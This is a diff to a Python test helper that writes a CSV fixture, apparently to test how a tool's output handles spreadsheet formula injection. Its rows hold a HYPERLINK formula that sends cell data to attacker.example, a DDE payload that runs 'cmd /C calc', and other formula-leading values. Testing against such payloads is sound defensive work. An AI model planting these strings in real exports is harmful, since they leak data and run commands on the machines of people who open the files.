@@ -58,9 +58,10 @@ def _huge() -> None:
 def _formula(tmp: str) -> None:
     with open(tmp, "w", newline="") as fh:
         writer = csv.writer(fh)
-        writer.writerow(["mutant", "sequence", "prediction", "error"])
-        writer.writerow(["H24A", '=HYPERLINK("http://attacker.example/?x="&A1,"open")', "-0.5", ""])
-        writer.writerow(["@SUM(1+1)*cmd|' /C calc'!A0", "+MKS", "", "-2+3"])
+        # the contract's table for an input of `mutant,attack` (the input's column kept), formulas everywhere
+        writer.writerow(["mutant", "attack", "sequence", "prediction", "error", "measured", "in_train"])
+        writer.writerow(["H24A", "formula", '=HYPERLINK("http://attacker.example/?x="&A1,"open")', "-0.5", "", "", ""])
+        writer.writerow(["@SUM(1+1)*cmd|' /C calc'!A0", "-1+1", "+MKS", "", "-2+3", "", ""])
 
 
 AT_EXIT = {
